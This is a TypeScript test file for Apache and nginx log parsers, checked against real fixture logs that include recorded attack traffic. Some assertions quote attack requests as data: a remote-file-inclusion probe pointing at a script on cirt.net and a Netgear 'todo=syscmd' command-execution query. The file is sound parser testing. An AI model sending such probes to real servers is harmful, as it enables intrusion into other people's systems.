import fc from 'fast-check';
import { parseAccessLogLine, parseErrorLogLine, parseNginxErrorLogLine } from '../../packages/runtime/src/apache-log';
import { matchAccessLine } from '../../packages/runtime/src/apache-log/access-log';
import type { AccessLogEntry, ErrorLogEntry } from '../../packages/runtime/src/apache-log';
import { listFixtures, loadLogLines } from '../support/fixtures';

function access(line: string): AccessLogEntry {
  const result = parseAccessLogLine(line);
  if (!result.ok) throw new Error(`expected a parse: ${result.reason}: ${line}`);
  return result.value;
}

function errorLine(line: string): ErrorLogEntry {
  const result = parseErrorLogLine(line);
  if (!result.ok) throw new Error(`expected a parse: ${result.reason}: ${line}`);
  return result.value;
}

const ACCESS_FILES = [
  'elastic__examples__Common_Data_Formats__apache_logs__apache_logs',
  'crowdsecurity__hub__.tests__apache-http-probing__apache-http-probing.log',
  'crowdsecurity__hub__.tests__apache2-malformed__apache2-logs.log',
  'crowdsecurity__hub__.tests__apache2-http-sensitive-files__apache2-http-sensitive-files.log',
  'crowdsecurity__hub__.tests__CVE-2022-26134__CVE-2022-26134.log',
  'crowdsecurity__hub__.tests__CVE-2022-44877__CVE-2022-44877.log',
  'crowdsecurity__hub__.tests__netgear_rce__netgear_rce.log',
  'crowdsecurity__hub__.tests__zoneminder_cve-39291__zoneminder_cve-39291.log',
  'elastic__beats__filebeat__module__apache__access__test__darwin-2.4.23.log',
  'elastic__beats__filebeat__module__apache__access__test__test-vhost.log',
  'elastic__beats__filebeat__module__apache__access__test__test.log',
  'google__mtail__internal__mtail__testdata__apache-combined.log',
  'google__mtail__internal__mtail__testdata__apache-common.log',
  'tstack__lnav__test__logfile_access_log.0',
  'tstack__lnav__test__logfile_access_log.1',
  'tstack__lnav__test__logfile_regexp_access_log.0',
];

const ERROR_FILES = [
  'elastic__beats__filebeat__module__apache__error__test__test.log',
  'elastic__beats__filebeat__module__apache__error__test__ubuntu-2.2.22.log',
  'elastic__beats__filebeat__module__apache__error__test__sublevel.log',
  'crowdsecurity__hub__.tests__modsecurity-logs__modsecurity-logs.log',
  'crowdsecurity__hub__.tests__baikal-bf__baikal-bf.log',
];

describe('parseAccessLogLine on the real logs', () => {
  test.each(ACCESS_FILES)('parses every line of %s', (file) => {
    const lines = loadLogLines(file);
    expect(lines.length).toBeGreaterThan(0);
    const failures = lines.map(parseAccessLogLine).filter((r) => !r.ok);
    expect(failures).toEqual([]);
  });

  test('the fixture list still holds the files this test names', () => {
    const present = listFixtures('logs');
    for (const file of [...ACCESS_FILES, ...ERROR_FILES]) expect(present).toContain(file);
  });

  test('a Combined line', () => {
    const [first] = loadLogLines('elastic__examples__Common_Data_Formats__apache_logs__apache_logs');
    expect(access(first)).toEqual({
      format: 'combined',
      vhost: null,
      vhostPort: null,
      remoteHost: '83.149.9.216',
      forwardedFor: null,
      ident: null,
      remoteUser: null,
      timestampMillis: Date.UTC(2015, 4, 17, 10, 5, 3),
      timeLocal: '17/May/2015:10:05:03 +0000',
      request: 'GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1',
      method: 'GET',
      uri: '/presentations/logstash-monitorama-2013/images/kibana-search.png',
      path: '/presentations/logstash-monitorama-2013/images/kibana-search.png',
      query: null,
      protocol: 'HTTP/1.1',
      status: 200,
      bytes: 203023,
      referer: 'http://semicomplete.com/presentations/logstash-monitorama-2013/',
      userAgent:
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36',
      durationMicros: null,
      router: null,
      upstream: null,
      extra: null,
    });
  });

  test('a Common line with IPv6 client, "-" request and "-" bytes', () => {
    const lines = loadLogLines('elastic__beats__filebeat__module__apache__access__test__darwin-2.4.23.log');
    expect(access(lines[0])).toMatchObject({ format: 'common', remoteHost: '::1', status: 200, bytes: 45 });
    expect(access(lines[2])).toMatchObject({ request: null, method: null, status: 408, bytes: null });
    // +0200: 16:16:28 local is 14:16:28 UTC
    expect(access(lines[0]).timestampMillis).toBe(Date.UTC(2016, 11, 26, 14, 16, 28));
  });

  test('vhost and vhost:port prefixes', () => {
    const lines = loadLogLines('crowdsecurity__hub__.tests__apache2-logs__apache2-logs.log');
    expect(access(lines[3])).toMatchObject({ vhost: 'www.crowdsec.net', vhostPort: null, remoteHost: '1.2.3.4' });
    expect(access(lines[6])).toMatchObject({
      vhost: 'website.com',
      vhostPort: 443,
      remoteHost: '1.2.3.4',
      referer: 'abc.com',
      userAgent: 'User-agent-string',
    });
  });

  test('custom formats: an integer after the user agent is %D; integers between %b and the referer stay in extra', () => {
    const custom = loadLogLines('tstack__lnav__test__logfile_regexp_access_log.0');
    expect(access(custom[0])).toMatchObject({
      vhost: 'localhost',
      vhostPort: 443,
      ident: '1j0vhgd',
      remoteUser: 'jsmith',
      protocol: 'HTTP/2.0',
      durationMicros: 116075,
      extra: null,
      timestampMillis: Date.UTC(2023, 6, 26, 7, 1, 26),
    });
    const mtail = loadLogLines('google__mtail__internal__mtail__testdata__apache-common.log');
    expect(access(mtail[2])).toMatchObject({
      remoteHost: '2001:db8::1',
      status: 404,
      bytes: 19,
      durationMicros: null,
      extra: '2167',
      userAgent: 'Mozilla/5.0',
    });
  });

  test('an empty X-Forwarded-For after the user agent, and a host name as client', () => {
    const lines = loadLogLines('elastic__beats__filebeat__module__apache__access__test__test.log');
    expect(access(lines[3])).toMatchObject({
      forwardedFor: null,
      extra: null,
      userAgent: expect.stringContaining('Firefox/15.0a2'),
    });
    expect(access(lines[4])).toMatchObject({ remoteHost: 'monitoring-server', path: '/status' });
  });

  test('TLS probes keep the escaped request text, with no method', () => {
    const lines = loadLogLines('crowdsecurity__hub__.tests__apache2-malformed__apache2-logs.log');
    expect(access(lines[0])).toMatchObject({ request: '\\x16\\x03\\x01\\x01 \\x02', method: null, status: 400 });
  });

  test('escaped quote and backslash inside the request line are undone', () => {
    const lines = loadLogLines('crowdsecurity__hub__.tests__apache-http-probing__apache-http-probing.log');
    const escaped = lines.find((l) => l.includes('sipssys'));
    expect(escaped).toContain('config[\\\\\\"sipssys\\\\\\"]'); // as logged: \\\"
    // Apache escaped a backslash and a quote: the request held \"
    expect(access(escaped!).request).toBe(
      'GET /sys/code/box.inc.php?config[\\"sipssys\\"]=http://cirt.net/rfiinc.txt? HTTP/1.1',
    );
  });

  test('query strings are split from the path', () => {
    const entry = access(loadLogLines('crowdsecurity__hub__.tests__netgear_rce__netgear_rce.log')[0]);
    expect(entry.path).toBe('/setup.cgi');
    expect(entry.query).toMatch(/^next_file=netgear\.cfg&todo=syscmd/);
  });
});

describe('parseAccessLogLine rejects what is not an access line', () => {
  test('missing ident and user fields', () => {
    const lines = loadLogLines('tstack__lnav__test__logfile_bad_access_log.0');
    const result = parseAccessLogLine(lines[1]);
    expect(result).toEqual({
      ok: false,
      reason: expect.stringMatching(/^not an access log line/),
      line: lines[1],
    });
    expect(parseAccessLogLine(lines[0]).ok).toBe(true);
  });

  test('error log, syslog and mod_ssl request log lines', () => {
    for (const file of [
      ...ERROR_FILES,
      'crowdsecurity__hub__.tests__sshd-logs__sshd-logs.log',
      'elastic__beats__filebeat__module__apache__access__test__ssl-request.log',
    ]) {
      for (const line of loadLogLines(file)) expect(parseAccessLogLine(line).ok).toBe(false);
    }
  });

  test('an impossible date', () => {
    const result = parseAccessLogLine('1.2.3.4 - - [31/Feb/2020:10:00:00 +0000] "GET / HTTP/1.1" 200 5');
    expect(result).toMatchObject({ ok: false, reason: 'invalid time [31/Feb/2020:10:00:00 +0000]' });
  });

  test('never throws, whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (line) => {
        const result = parseAccessLogLine(line);
        expect(typeof result.ok).toBe('boolean');
        expect(parseErrorLogLine(line).ok === true || parseErrorLogLine(line).ok === false).toBe(true);
      }),
      { numRuns: 300 },
    );
    expect(parseAccessLogLine(undefined as unknown as string).ok).toBe(false);
  });

  test('round trip: a formatted Combined line parses back to its fields', () => {
    const token = fc.stringMatching(/^[A-Za-z0-9._~%/-]{1,30}$/);
    fc.assert(
      fc.property(
        fc.ipV4(),
        fc.ipV6(),
        fc.boolean(),
        fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T23:59:59Z'), noInvalidDate: true }),
        fc.constantFrom('GET', 'POST', 'HEAD', 'OPTIONS'),
        token,
        fc.integer({ min: 100, max: 599 }),
        fc.option(fc.nat(), { nil: null }),
        fc.string({ maxLength: 40 }).map((s) => s.replace(/[\\"\r\n]/g, '')),
        (ipv4, ipv6, useV6, date, method, path, status, bytes, agent) => {
          const ip = useV6 ? ipv6 : ipv4;
          const ts = new Date(Math.floor(date.getTime() / 1000) * 1000);
          const line = `${ip} - - [${formatClf(ts)}] "${method} /${path} HTTP/1.1" ${status} ${bytes ?? '-'} "-" "${agent}"`;
          const entry = access(line);
          expect(entry).toMatchObject({
            remoteHost: ip,
            timestampMillis: ts.getTime(),
            method,
            path: `/${path}`,
            status,
            bytes,
            userAgent: agent.length === 0 || agent === '-' ? null : agent,
          });
        },
      ),
      { numRuns: 200 },
    );
  });
});

describe('parseErrorLogLine on the real logs', () => {
  test.each(ERROR_FILES)('parses every line of %s', (file) => {
    const lines = loadLogLines(file);
    expect(lines.map(parseErrorLogLine).filter((r) => !r.ok)).toEqual([]);
  });

  test('Apache 2.2 line with a referer suffix', () => {
    const lines = loadLogLines('elastic__beats__filebeat__module__apache__error__test__ubuntu-2.2.22.log');
    expect(errorLine(lines[1])).toEqual({
      timestampMillis: Date.UTC(2016, 11, 26, 16, 22, 0),
      timeLocal: 'Mon Dec 26 16:22:00 2016',
      module: null,
      level: 'error',
      pid: null,
      tid: null,
      connectionId: null,
      sourceFile: null,
      aprStatus: null,
      clientIp: '192.168.33.1',
      clientPort: null,
      server: null,
      request: null,
      method: null,
      path: null,
      query: null,
      protocol: null,
      upstream: null,
      httpHost: null,
      errorCode: null,
      message: 'File does not exist: /var/www/favicon.ico',
      referer: 'http://192.168.33.72/',
    });
    expect(errorLine(lines[0])).toMatchObject({
      level: 'notice',
      clientIp: null,
      message: expect.stringMatching(/^Apache/),
    });
  });

  test('Apache 2.4 line: module, pid:tid, client ip:port, AH code, microseconds', () => {
    const line = loadLogLines('crowdsecurity__hub__.tests__apache-cve-2021-41773__apache-cve-2021-41773.log')[0];
    expect(errorLine(line)).toMatchObject({
      timestampMillis: Date.UTC(2021, 9, 8, 17, 8, 41, 203),
      module: 'core',
      level: 'error',
      pid: 7005,
      tid: 140667133085440,
      clientIp: '88.168.206.87',
      clientPort: 14532,
      errorCode: 'AH00126',
      message: expect.stringMatching(/^Invalid URI in request GET \/cgi-bin\/.*HTTP\/1\.1$/),
    });
  });

  test('trace sub-level with a source file reference', () => {
    const [line] = loadLogLines('elastic__beats__filebeat__module__apache__error__test__sublevel.log');
    expect(errorLine(line)).toMatchObject({
      module: 'rewrite',
      level: 'trace3',
      sourceFile: 'mod_rewrite.c(470)',
      clientIp: '10.121.192.8',
      clientPort: 38350,
    });
  });

  test('ModSecurity: empty module name and an IPv6 client with port', () => {
    const [line] = loadLogLines('crowdsecurity__hub__.tests__modsecurity-logs__modsecurity-logs.log');
    expect(errorLine(line)).toMatchObject({ module: null, level: 'error', clientIp: '::1', clientPort: 37752 });
  });

  test('the error lines inside a mixed access log', () => {
    const lines = loadLogLines('crowdsecurity__hub__.tests__apache2-logs__apache2-logs.log');
    const errors = lines.filter((l) => !parseAccessLogLine(l).ok);
    expect(errors).toHaveLength(2);
    expect(errors.map((l) => errorLine(l).module)).toEqual(['auth_basic', 'ssl']);
  });

  test('rejects access and syslog lines', () => {
    for (const file of ['tstack__lnav__test__logfile_access_log.0', 'tstack__lnav__test__logfile_syslog.0']) {
      for (const line of loadLogLines(file)) {
        expect(parseErrorLogLine(line)).toMatchObject({ ok: false, reason: 'not an Apache error log line' });
      }
    }
  });
});

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
function formatClf(d: Date): string {
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(
    d.getUTCMinutes(),
  )}:${pad(d.getUTCSeconds())} +0000`;
}

describe('time parsing fast path', () => {
  test('agrees with Date.parse on any valid time and zone', () => {
    fc.assert(
      fc.property(
        fc.date({ min: new Date('1990-01-01T00:00:00Z'), max: new Date('2090-12-31T23:59:59Z'), noInvalidDate: true }),
        fc.integer({ min: -14 * 60, max: 14 * 60 }),
        (date, offsetMinutes) => {
          const local = new Date(Math.floor(date.getTime() / 1000) * 1000 + offsetMinutes * 60_000);
          const sign = offsetMinutes < 0 ? '-' : '+';
          const abs = Math.abs(offsetMinutes);
          const zone = `${sign}${String(Math.floor(abs / 60)).padStart(2, '0')}${String(abs % 60).padStart(2, '0')}`;
          const text = formatClf(local).replace('+0000', zone);
          const line = `1.2.3.4 - - [${text}] "GET / HTTP/1.1" 200 1`;
          expect(access(line).timestampMillis).toBe(Math.floor(date.getTime() / 1000) * 1000);
        },
      ),
      { numRuns: 300 },
    );
  });

  // The fast path reads the fixed-width form by character positions; the regex path reads any
  // form. Both must accept exactly the same texts: the same time with a fraction ('.0') takes
  // the regex path, so it is the reference for each case below.
  test.each([
    ['separators that are not colons', '10/Oct/2000:13x55x36 -0700'],
    ['a zone that is not digits', '10/Oct/2000:13:55:36 +ab00'],
    ['a leap second that rolls over into the next day', '31/Dec/2016:23:59:60 +0000'],
    ['a year that is not digits', '10/Oct/2x00:13:55:36 +0000'],
    ['a day that is not digits', '1x/Oct/2000:13:55:36 +0000'],
  ])('rejects %s like the regex path', (_, text) => {
    const withFraction = text.replace(/^(\S+)( .*)$/, '$1.0$2');
    const fast = parseAccessLogLine(`1.2.3.4 - - [${text}] "GET / HTTP/1.1" 200 1`);
    const regex = parseAccessLogLine(`1.2.3.4 - - [${withFraction}] "GET / HTTP/1.1" 200 1`);
    expect(regex.ok).toBe(false);
    expect(fast.ok).toBe(false);
  });

  test('a leap second within a day is read as the next second, on both paths', () => {
    for (const text of ['30/Jun/2015:12:59:60 +0000', '30/Jun/2015:12:59:60.0 +0000']) {
      expect(access(`1.2.3.4 - - [${text}] "GET / HTTP/1.1" 200 1`).timestampMillis).toBe(
        Date.UTC(2015, 5, 30, 13, 0, 0),
      );
    }
  });

  test('reads any valid date like Date.UTC, also after a change of day (the day is computed once)', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 100, max: 9999 }),
        fc.integer({ min: 0, max: 11 }),
        fc.integer({ min: 1, max: 31 }),
        (year, month, day) => {
          const pad = (n: number, w = 2) => String(n).padStart(w, '0');
          const text = `${pad(day)}/${MONTHS[month]}/${pad(year, 4)}:01:02:03 +0000`;
          const expected = Date.UTC(year, month, day, 1, 2, 3);
          const valid = new Date(expected).getUTCDate() === day;
          const parsed = parseAccessLogLine(`1.2.3.4 - - [${text}] "GET / HTTP/1.1" 200 1`);
          expect(parsed.ok ? parsed.value.timestampMillis : NaN).toBe(valid ? expected : NaN);
        },
      ),
      { numRuns: 500, seed: 20261202 },
    );
  });
});

describe('nginx error-log time', () => {
  // The parser asks a Date only for the days Date.UTC can roll over (past the 28th, 23:59:60):
  // every digit combination must still be read exactly as Date.UTC reads it, or refused.
  test('is read like Date.UTC, and refused where Date.UTC would roll it into another day', () => {
    const pad = (n: number, w = 2) => String(n).padStart(w, '0');
    fc.assert(
      fc.property(
        fc.oneof(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 1999, max: 2001 })),
        fc.integer({ min: 0, max: 13 }),
        fc.integer({ min: 0, max: 32 }),
        fc.oneof(fc.integer({ min: 0, max: 24 }), fc.constant(23)),
        fc.oneof(fc.integer({ min: 0, max: 60 }), fc.constant(59)),
        fc.oneof(fc.integer({ min: 0, max: 61 }), fc.constant(60)),
        (year, month, day, hour, minute, second) => {
          const line = `${pad(year, 4)}/${pad(month)}/${pad(day)} ${pad(hour)}:${pad(minute)}:${pad(second)} [error] 7#0: *1 x`;
          const expected = Date.UTC(year, month - 1, day, hour, minute, second);
          const valid =
            month >= 1 &&
            month <= 12 &&
            hour <= 23 &&
            minute <= 59 &&
            second <= 60 &&
            new Date(expected).getUTCDate() === day;
          const parsed = parseNginxErrorLogLine(line);
          expect(parsed.ok ? parsed.value.timestampMillis : NaN).toBe(valid ? expected : NaN);
        },
      ),
      { numRuns: 2000, seed: 20261202 },
    );
  });
});

describe('Apache error-log time', () => {
  // The parser reads the day once (by its regex) and the time of day from the digits: every
  // combination must still be read exactly as Date.UTC reads it, or refused, whatever day the
  // line before was on.
  test('is read like Date.UTC (milliseconds: the fraction truncated), and refused where Date.UTC would roll it over', () => {
    const pad = (n: number, w = 2) => String(n).padStart(w, '0');
    const days = ['Mon', 'Sun'];
    fc.assert(
      fc.property(
        fc.oneof(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 2015, max: 2016 })),
        fc.integer({ min: 0, max: 11 }),
        fc.integer({ min: 0, max: 32 }),
        fc.constantFrom('dd', ' d', 'd'),
        fc.oneof(fc.integer({ min: 0, max: 24 }), fc.constant(23)),
        fc.oneof(fc.integer({ min: 0, max: 60 }), fc.constant(59)),
        fc.oneof(fc.integer({ min: 0, max: 61 }), fc.constant(60)),
        fc.oneof(fc.constant(''), fc.stringMatching(/^[0-9]{1,7}$/)),
        (year, month, day, dayForm, hour, minute, second, fraction) => {
          const dayText = dayForm === 'dd' ? pad(day) : dayForm === ' d' ? String(day).padStart(2, ' ') : String(day);
          const time = `${pad(hour)}:${pad(minute)}:${pad(second)}${fraction === '' ? '' : `.${fraction}`}`;
          const text = `${days[day % 2]} ${MONTHS[month]} ${dayText} ${time} ${pad(year, 4)}`;
          const millis = fraction === '' ? 0 : Number(fraction.padEnd(3, '0').slice(0, 3));
          const expected = Date.UTC(year, month, day, hour, minute, second, millis);
          const valid =
            fraction.length <= 6 &&
            day >= 1 &&
            hour <= 23 &&
            minute <= 59 &&
            second <= 60 &&
            new Date(expected).getUTCDate() === day;
          // The same day's midnight first: the line under test then finds its day already read.
          parseErrorLogLine(`[${text.replace(time, '00:00:00')}] [error] x`);
          const parsed = parseErrorLogLine(`[${text}] [error] x`);
          expect(parsed.ok ? parsed.value.timestampMillis : NaN).toBe(valid ? expected : NaN);
        },
      ),
      { numRuns: 3000, seed: 20261202 },
    );
  });

  test.each([
    ['separators that are not colons', 'Wed Oct 11 14x32x52 2000'],
    ['an hour that is not digits', 'Wed Oct 11 1x:32:52 2000'],
    ['a fraction with a letter', 'Wed Oct 11 14:32:52.12x 2000'],
    ['a point without a fraction', 'Wed Oct 11 14:32:52. 2000'],
    ['a year that is not digits', 'Wed Oct 11 14:32:52 2x00'],
    ['no space before the year', 'Wed Oct 11 14:32:52.1234562000'],
    ['a month that is not one', 'Wed Ocx 11 14:32:52 2000'],
  ])('refuses a time with %s, also right after a valid time of the same day', (_, text) => {
    expect(parseErrorLogLine('[Wed Oct 11 14:32:51 2000] [error] x').ok).toBe(true);
    expect(parseErrorLogLine(`[${text}] [error] x`)).toMatchObject({ ok: false });
  });
});

describe('access lines: the rest after %b read in linear time', () => {
  // The access-line regex as it was, ending in `(?: (.*?))?\s*$`: on a long rest (spaces, then a
  // character that is not one) V8 backtracked once per character over the rest of the line,
  // quadratic in its length. matchAccessLine reads the rest in code; it must match what this
  // regex matched, on the short lines it reads quickly.
  const Q = '"([^"\\\\]*(?:\\\\.[^"\\\\]*)*)"';
  const REGEX_BEFORE = new RegExp(
    '^(?:(\\S+) )??(\\S+) (\\S+) (\\S+) \\[([^\\]]+)\\] ' +
      '"(?:([A-Z][A-Z0-9_-]*) ([^\\s"\\\\]+)(?: (HTTP\\/\\d(?:\\.\\d)?))?|' +
      Q.slice(1, -1) +
      ')" (\\d{3}|-) (\\d+|-)((?: \\d+)+)?(?: ' +
      Q +
      ' ' +
      Q +
      ')?(?: (.*?))?\\s*$',
  );

  test('property: the same groups as the regex before, on real lines and lines with odd rests', () => {
    const real = listFixtures('logs').flatMap((f) => loadLogLines(f));
    const piece = fc.constantFrom(
      ' 12',
      ' 3',
      '7',
      ' "a" "b"',
      ' "-" "-"',
      ' "a',
      '"',
      ' ',
      '  ',
      '\t',
      '\r',
      '\u2028',
      '\u00a0',
      'x',
      ' x',
      '\\',
      '\r ',
      ' 4ms',
    );
    const head = fc.constantFrom(
      '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326',
      'vh:80 1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 -',
      '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "\\x16\\x03" 400 0',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.constantFrom(...real),
          fc.tuple(head, fc.array(piece, { maxLength: 8 })).map(([h, p]) => h + p.join('')),
        ),
        (line) => {
          const before = REGEX_BEFORE.exec(line);
          const now = matchAccessLine(line);
          if (before === null) {
            expect(now).toBeUndefined();
            return;
          }
          expect(now).toBeDefined();
          const { m, combined, integers, tail } = now as NonNullable<typeof now>;
          expect({
            head: m.slice(1, 12),
            combined,
            integers,
            referer: combined ? [m[13], m[14]] : undefined,
            tail,
          }).toEqual({
            head: before.slice(1, 12),
            combined: before[13] !== undefined,
            integers: before[12],
            referer: before[13] !== undefined ? [before[13], before[14]] : undefined,
            tail: before[15] ? before[15] : null,
          });
        },
      ),
      { numRuns: 3000, seed: 20261202 },
    );
  });
});
